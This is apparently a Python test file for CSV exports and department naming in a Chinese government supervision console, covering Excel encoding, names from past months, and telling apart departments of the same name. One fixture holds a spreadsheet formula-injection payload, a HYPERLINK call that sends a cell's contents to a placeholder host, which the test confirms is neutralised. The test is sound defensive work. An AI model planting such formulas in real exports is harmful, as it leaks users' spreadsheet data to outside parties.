"""The 监督 page's CSV exports open in Excel as they read: Chinese intact, names never taken for formulas."""

from __future__ import annotations

import csv
import io

from services.runtime.excel_csv import csv_bytes


def test_excel_reads_the_chinese_and_no_name_becomes_a_formula() -> None:
    data = csv_bytes(["部门代码", "部门名称", "综合得分"], [
        ["11110100MB00000027", "市公安局", "91.67"],
        ["11110100MB0000003A", '=HYPERLINK("http://x.example/?"&A1,"点击")', "100.00"],
        ["11110100MB0000004D", "+86 市测试局", 3], ["11110100MB0000005G", "-1", 0],
        ["11110100MB0000006K", "@SUM(1)", 0],
        ["11110100MB0000007N", "市民政局，含逗号\n与换行", 5]])
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after a byte order mark
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["部门代码", "部门名称", "综合得分"]
    assert [row[1] for row in rows[1:]] == ["市公安局", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', "'+86 市测试局",
                                            "'-1", "'@SUM(1)", "市民政局，含逗号\n与换行"]
    assert [row[2] for row in rows[1:]] == ["91.67", "100.00", "3", "0", "0", "5"]


def test_a_months_departments_are_named_as_they_were_then_with_todays_name_beside() -> None:
    """The 监督 page and its exports named every department of a past month by today's name: 市民政局, renamed
    市社会服务局 since, read so in the evaluations of a month it bore the former. The month's name comes first,
    today's beside it; a month computed before names were kept, or a name unchanged, reads as before."""
    from console.pages import named_then
    from govshare.supervision.v1 import supervision_pb2

    renamed, kept, old = "11110100MB0000007N", "11110100MB00000027", "11110100MB0000003A"
    evaluations = [supervision_pb2.Evaluation(department_code=renamed, department_name="市民政局"),
                   supervision_pb2.Evaluation(department_code=kept, department_name="市公安局"),
                   supervision_pb2.Evaluation(department_code=old)]
    today = {renamed: "市社会服务局", kept: "市公安局", old: "市市场监督管理局"}
    assert named_then(today, evaluations) == {renamed: "市民政局（现名：市社会服务局）", kept: "市公安局",
                                              old: "市市场监督管理局"}



def test_two_departments_of_one_name_are_told_apart_in_the_chart_and_the_tables() -> None:
    """Every district has its 民政局: the 监督 page's chart and tables (and the exports' name column) showed two bars
    and rows 民政局 that no reader could tell apart, and two long names cut in the chart alike. A colliding name is
    followed by its region (the code's 行政区划), else the code's tail; the chart cuts the name, not what tells it."""
    import re

    from console.charts import bar_chart
    from console.pages import named_then
    from govshare.supervision.v1 import supervision_pb2

    chaoyang, haidian, shangcheng, xihu = ("11110105MB00000170", "11110108MB00000269", "11330102MB00000369",
                                           "11330106MB00000464")
    chaoyang_too, alone = "11110105MB00000574", "11110100MB00000027"
    long_name = "人力资源和社会保障局"
    evaluations = [supervision_pb2.Evaluation(department_code=code, department_name=name) for code, name in (
        (chaoyang, "民政局"), (haidian, "民政局"), (shangcheng, long_name), (xihu, long_name),
        (chaoyang_too, "公安局"), (alone, "市公安局"))]
    today = {chaoyang: "民政局", haidian: "民政局", shangcheng: long_name, xihu: long_name, chaoyang_too: "公安局",
             alone: "市公安局"}
    names = named_then(today, evaluations)
    assert names == {chaoyang: "民政局（北京市朝阳区）", haidian: "民政局（北京市海淀区）",
                     shangcheng: f"{long_name}（浙江省上城区）", xihu: f"{long_name}（浙江省西湖区）",
                     chaoyang_too: "公安局", alone: "市公安局"}
    # Two of one name in the same region: the code's tail tells them apart.
    assert named_then({chaoyang: "民政局", chaoyang_too: "民政局"}, []) == {
        chaoyang: "民政局（…000170）", chaoyang_too: "民政局（…000574）"}
    assert named_then({chaoyang: "", haidian: ""}, []) == {chaoyang: "", haidian: ""}  # no name: the page shows codes
    chart = bar_chart([(names[code], 90.0) for code in today], maximum=100, title="各部门综合得分")
    drawn = re.findall(r'<text class="chart-label"[^>]*>([^<]*)</text>', chart)
    assert len(set(drawn)) == len(drawn) == 6, drawn
    assert "人力资源…（浙江省上城区）" in drawn


def test_a_code_of_digits_alone_is_kept_as_text_not_read_as_a_number() -> None:
    """A 统一社会信用代码 of 18 digits (111101050000000017: a 机关's 组织机构代码 is digits, and its check character
    may be one) was written as it is, and Excel, opening the export, read it as the number 1.11101E+17, keeping 15
    digits: saved again, the column held 111101050000000000, another department. So would a sequence 000001 lose
    its zeros. Such a code is written after a tab, which Excel keeps as text; a code with a letter, a number, and
    digits Excel keeps whole are written as they were."""
    digits, lettered = "111101050000000017", "11110100MB00000027"
    data = csv_bytes(["部门代码", "部门名称", "违规数"], [
        [digits, "区民政局", 2], [lettered, "市公安局", 0], ["000001", "0", "123456789012345"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["\t" + digits, "区民政局", "2"], [lettered, "市公安局", "0"],
                        ["\t000001", "0", "123456789012345"]]
